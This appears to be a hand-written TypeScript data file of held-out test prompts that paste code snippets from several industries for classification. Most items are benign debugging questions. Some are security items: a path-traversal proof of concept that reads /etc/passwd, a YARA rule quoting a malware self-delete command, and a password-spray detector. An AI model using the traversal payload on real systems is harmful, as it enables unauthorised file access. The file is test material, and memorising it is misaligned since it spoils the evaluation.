/**
 * Held-out batch 24: pasted source code from a fab (SPC, SECS/GEM, wafer maps), a cruise line,
 * dental software, an energy call centre, a polling firm and a security consultancy. Hand-written.
 */
import { amb, f, rec, v, type DraftRecord } from '../dsl';

const code = (body: ReturnType<typeof f>) => v('source_code.snippet', body);

export const BATCH24_SOURCE_CODE: DraftRecord[] = [
  rec('code_python', f`Western Electric rules check for our SPC charts. Rule 2 (9 points same side) fires too often, is my logic off?

\`\`\`python
${code(f`import numpy as np

def we_rules(x: np.ndarray, mean: float, sigma: float) -> dict[str, list[int]]:
    z = (x - mean) / sigma
    hits = {"r1": [], "r2": [], "r3": []}
    for i in range(len(z)):
        if abs(z[i]) > 3:
            hits["r1"].append(i)
        if i >= 8 and (np.all(z[i - 8 : i + 1] > 0) or np.all(z[i - 8 : i + 1] < 0)):
            hits["r2"].append(i)
        if i >= 5 and (np.all(np.diff(x[i - 5 : i + 1]) > 0) or np.all(np.diff(x[i - 5 : i + 1]) < 0)):
            hits["r3"].append(i)
    return hits`)}
\`\`\``),

  rec('code_csharp', f`${code(f`// S6F11 event report handler — equipment host, CVD line
public void OnEventReport(SecsMessage msg)
{
    var ceid = msg.SecsItem.Items[1].GetValue<uint>();
    var reports = msg.SecsItem.Items[2].Items;
    foreach (var rpt in reports)
    {
        var rptid = rpt.Items[0].GetValue<uint>();
        var values = rpt.Items[1].Items.Select(i => i.ToString()).ToArray();
        _log.Information("CEID {Ceid} RPTID {Rptid}: {Values}", ceid, rptid, string.Join(",", values));
        if (ceid == 1010) _mes.TrackOut(values[0], values[1]);
    }
    _host.ReplyAsync(msg, new SecsMessage(6, 12, false) { SecsItem = B(0) });
}`)}

Sometimes the S6F12 reply goes out after T3 and the tool alarms. Should I reply first and process later?`),

  rec('code_cpp', f`Wafer map rendering is slow for 300 mm wafers with 2 mm die, ~17k dies:

${code(f`void WaferMapView::paintEvent(QPaintEvent*) {
    QPainter p(this);
    const double scale = width() / waferDiameterMm_;
    for (const auto& die : dies_) {
        QRectF r((die.x * pitchX_ + offsetX_) * scale, (die.y * pitchY_ + offsetY_) * scale,
                 pitchX_ * scale, pitchY_ * scale);
        p.fillRect(r, binColor(die.bin));
        p.setPen(Qt::black);
        p.drawRect(r);
    }
}`)}

Would caching to a QPixmap help?`),

  rec('code_vba', f`Excel macro from the litho team, it hangs on big lot lists. Can you speed it up?

${code(f`Sub FlagHoldLots()
    Dim ws As Worksheet, i As Long, lastRow As Long
    Set ws = ThisWorkbook.Sheets("LotList")
    lastRow = ws.Cells(ws.Rows.Count, "A").End(xlUp).Row
    For i = 2 To lastRow
        If ws.Cells(i, 5).Value = "HOLD" And ws.Cells(i, 7).Value > 24 Then
            ws.Rows(i).Interior.Color = RGB(255, 199, 206)
            ws.Cells(i, 9).Value = "ESCALATE"
        End If
    Next i
End Sub`)}`),

  rec('code_java', f`${code(f`@Transactional
public Booking holdCabin(String sailingCode, String cabinNo, GuestParty party) {
    Cabin cabin = cabinRepo.findForUpdate(sailingCode, cabinNo)
        .orElseThrow(() -> new NotFoundException("cabin " + cabinNo));
    if (cabin.getStatus() != CabinStatus.AVAILABLE) {
        throw new ConflictException("cabin not available");
    }
    if (party.size() > cabin.getMaxOccupancy()) {
        throw new ValidationException("party too large for cabin category " + cabin.getCategory());
    }
    cabin.setStatus(CabinStatus.HELD);
    cabin.setHeldUntil(Instant.now().plus(Duration.ofMinutes(20)));
    return bookingRepo.save(Booking.hold(cabin, party));
}`)}

Under load two agents can still hold the same cabin. findForUpdate is a SELECT ... FOR UPDATE. Why?`),

  rec('code_kotlin', f`Crew app (Android) — the muster drill check-in list jumps to the top on every scan:

\`\`\`kotlin
${code(f`@Composable
fun MusterList(vm: MusterViewModel) {
    val crew by vm.crew.collectAsState()
    LazyColumn {
        items(crew.sortedBy { it.checkedIn }) { member ->
            Row(Modifier.fillMaxWidth().padding(8.dp)) {
                Text(member.name, Modifier.weight(1f))
                Text(member.station)
                if (member.checkedIn) Icon(Icons.Default.Check, contentDescription = null)
            }
        }
    }
}`)}
\`\`\``),

  rec('code_php', f`Online booking for the dental clinics, the available slots query returns slots on public holidays:

${code(f`<?php
function availableSlots(PDO $db, int $clinicId, string $date): array {
    $stmt = $db->prepare(
        "SELECT s.start_time FROM slots s
         LEFT JOIN appointments a ON a.slot_id = s.id AND a.status <> 'cancelled'
         WHERE s.clinic_id = :clinic AND DATE(s.start_time) = :d AND a.id IS NULL
         ORDER BY s.start_time"
    );
    $stmt->execute([':clinic' => $clinicId, ':d' => $date]);
    return $stmt->fetchAll(PDO::FETCH_COLUMN);
}`)}

Where should the holiday check go — SQL or PHP?`),

  rec('code_ts', f`${code(f`// FDI tooth numbering → Universal (US) numbering for the US partner lab export
export function fdiToUniversal(fdi: number): number {
  const quadrant = Math.floor(fdi / 10);
  const tooth = fdi % 10;
  if (tooth < 1 || tooth > 8) throw new RangeError(\`invalid FDI \${fdi}\`);
  switch (quadrant) {
    case 1: return 9 - tooth;
    case 2: return 8 + tooth;
    case 3: return 25 - tooth;
    case 4: return 24 + tooth;
    default: throw new RangeError(\`permanent teeth only: \${fdi}\`);
  }
}`)}

Tests pass for 11 and 48 but the lab says 36 maps wrong. Can you check?`),

  rec('code_sql', f`Average handle time per agent per week, but the numbers look too low:

${code(f`SELECT a.agent_id,
       date_trunc('week', c.started_at) AS wk,
       AVG(EXTRACT(EPOCH FROM (c.ended_at - c.answered_at)) + c.wrap_seconds) AS aht_s,
       COUNT(*) AS calls
FROM calls c
JOIN agents a ON a.id = c.agent_id
WHERE c.queue IN ('billing', 'moving_home')
  AND c.started_at >= now() - interval '8 weeks'
GROUP BY 1, 2
ORDER BY 2, 3 DESC;`)}

Calls that were transferred have answered_at null on the second leg, could that be it?`),

  rec('code_go', f`${code(f`package tariff

// DayNightCost splits a half-hourly consumption profile into Economy 7 day/night cost.
func DayNightCost(kwh [48]float64, dayRate, nightRate float64, nightStart, nightEnd int) float64 {
	var total float64
	for i, v := range kwh {
		slot := i / 2
		night := slot >= nightStart || slot < nightEnd
		if nightStart < nightEnd {
			night = slot >= nightStart && slot < nightEnd
		}
		if night {
			total += v * nightRate
		} else {
			total += v * dayRate
		}
	}
	return total
}`)}

slot is hours but i is half-hours — does i / 2 handle 00:30 correctly?`),

  rec('code_powershell', f`Script our IT uses to export the dialler queue stats every morning, it fails since the Excel module update:

${code(f`$date = (Get-Date).AddDays(-1).ToString('yyyy-MM-dd')
$rows = Invoke-Sqlcmd -ServerInstance 'CC-SQL02' -Database 'Dialler' -Query "EXEC rpt.QueueStats @day = '$date'"
$rows | Select-Object Queue, Offered, Answered, Abandoned, @{n='SL80_20';e={[math]::Round($_.WithinSla / $_.Offered * 100, 1)}} |
    Export-Excel -Path "\\\\fs01\\reports\\queue_$date.xlsx" -WorksheetName 'Queues' -AutoSize -TableStyle Medium2`)}`),

  rec('code_r', f`Raking weights for the December tracker. The weights explode for 18–24 men, what can I do?

${code(f`library(survey)
library(anesrake)

targets <- list(
  age_sex = c("M18-24" = .055, "F18-24" = .052, "M25-49" = .21, "F25-49" = .215, "M50+" = .22, "F50+" = .248),
  region  = c(North = .24, Midlands = .26, South = .33, London = .17),
  past_vote = c(Lab = .34, Con = .24, LD = .12, Ref = .14, Other = .16)
)
raked <- anesrake(targets, df, caseid = df$resp_id, cap = 5, type = "nolim")
df$w <- raked$weightvec
summary(df$w)`)}`),

  rec('code_python', f`Our MRP model for seat estimates, the posterior for small constituencies is way too confident:

${code(f`import pymc as pm

with pm.Model() as mrp:
    a_region = pm.Normal("a_region", 0, 1, shape=n_regions)
    a_age = pm.Normal("a_age", 0, 1, shape=n_age)
    b_past = pm.Normal("b_past", 0, 1)
    eta = a_region[region_idx] + a_age[age_idx] + b_past * past_share
    p = pm.Deterministic("p", pm.math.sigmoid(eta))
    pm.Bernoulli("y", p=p, observed=vote_lab)
    trace = pm.sample(1000, tune=1000, target_accept=0.9)`)}`),

  rec('code_swift', f`${code(f`struct CanvassStop: Identifiable, Codable {
    let id: UUID
    let address: String
    var result: Result?

    enum Result: String, Codable { case notHome, refused, supporter, undecided, opponent }
}

final class WalkListStore: ObservableObject {
    @Published private(set) var stops: [CanvassStop] = []

    func record(_ result: CanvassStop.Result, for id: UUID) {
        guard let i = stops.firstIndex(where: { $0.id == id }) else { return }
        stops[i].result = result
        try? save()
    }
}`)}

Offline results disappear when the app is killed. Is try? swallowing a write error?`),

  rec('code_python', f`PoC for the client report (authorised test, their staging host). The reviewer says the code is unreadable, can you clean it up?

${code(f`import requests, sys

target = sys.argv[1]
s = requests.Session()
# CVE-style path traversal in the export endpoint: ../ is only stripped once
for depth in range(3, 9):
    path = "....//" * depth + "etc/passwd"
    r = s.get(f"{target}/api/v1/export?file={path}", timeout=10, verify=False)
    if "root:x:0:0" in r.text:
        print(f"[+] traversal works at depth {depth}")
        break
else:
    print("[-] not vulnerable")`)}`),

  rec('code_rust', f`${code(f`use std::collections::HashMap;

/// Count failed logons per source address from parsed 4625 events.
pub fn spray_candidates(events: &[LogonEvent], min_users: usize) -> Vec<(String, usize)> {
    let mut per_src: HashMap<&str, std::collections::HashSet<&str>> = HashMap::new();
    for e in events.iter().filter(|e| e.event_id == 4625) {
        per_src.entry(e.source.as_str()).or_default().insert(e.target_user.as_str());
    }
    let mut out: Vec<_> = per_src
        .into_iter()
        .filter(|(_, users)| users.len() >= min_users)
        .map(|(src, users)| (src.to_string(), users.len()))
        .collect();
    out.sort_by(|a, b| b.1.cmp(&a.1));
    out
}`)}

Borrow checker is fine but I'd like to return borrowed &str instead of String. Worth it?`),

  rec('yara', f`Can you review this YARA rule from the IR case before we share it with the client?

${amb('source_code.snippet', f`rule Loader_TallyRetail_Dec24
{
    meta:
        author = "Kestrel IR"
        date = "2024-12-03"
    strings:
        $s1 = "cmd.exe /c ping 127.0.0.1 -n 5 > nul & del" ascii
        $s2 = { 48 8B 05 ?? ?? ?? ?? 48 85 C0 74 ?? FF D0 }
        $s3 = "Global\\\\TR-MTX-01" wide
    condition:
        uint16(0) == 0x5A4D and filesize < 800KB and 2 of ($s*)
}`)}`, 'a YARA rule: detection content, code to some readers: ambiguous'),

  rec('diff', f`Review please, fixes the "agent sees other tenant's queue" bug from the pentest:

${code(f`--- a/src/queue/handlers.py
+++ b/src/queue/handlers.py
@@ -41,9 +41,12 @@ def list_queue(request):
-    queue_id = request.GET["queue"]
-    items = QueueItem.objects.filter(queue_id=queue_id).order_by("created")
+    queue_id = request.GET.get("queue")
+    queue = get_object_or_404(Queue, id=queue_id, tenant=request.user.tenant)
+    items = QueueItem.objects.filter(queue=queue).order_by("created")
     return JsonResponse({"items": [i.as_dict() for i in items]})`)}`),

  rec('code_bash', f`${code(f`#!/usr/bin/env bash
# collect triage artefacts from a Linux host (IR playbook step 3)
set -euo pipefail
OUT=/tmp/triage_$(hostname)_$(date +%Y%m%dT%H%M)
mkdir -p "$OUT"
ps auxww > "$OUT/ps.txt"
ss -tanp > "$OUT/sockets.txt"
last -Faiw > "$OUT/last.txt"
find / -xdev -type f -mtime -3 \\( -path /proc -prune -o -print \\) 2>/dev/null > "$OUT/recent_files.txt"
cp -a /var/log/auth.log* "$OUT/" 2>/dev/null || true
tar czf "$OUT.tgz" -C /tmp "$(basename "$OUT")"
sha256sum "$OUT.tgz"`)}

The find line also walks /proc, the prune doesn't seem to work.`),

  rec('code_ts', f`Shore-excursion capacity check, sometimes we oversell by one:

${code(f`export async function reserveSeats(tourId: string, seats: number): Promise<boolean> {
  const tour = await db.tour.findUnique({ where: { id: tourId } });
  if (!tour) throw new Error('unknown tour');
  if (tour.booked + seats > tour.capacity) return false;
  await db.tour.update({ where: { id: tourId }, data: { booked: tour.booked + seats } });
  return true;
}`)}`),
];
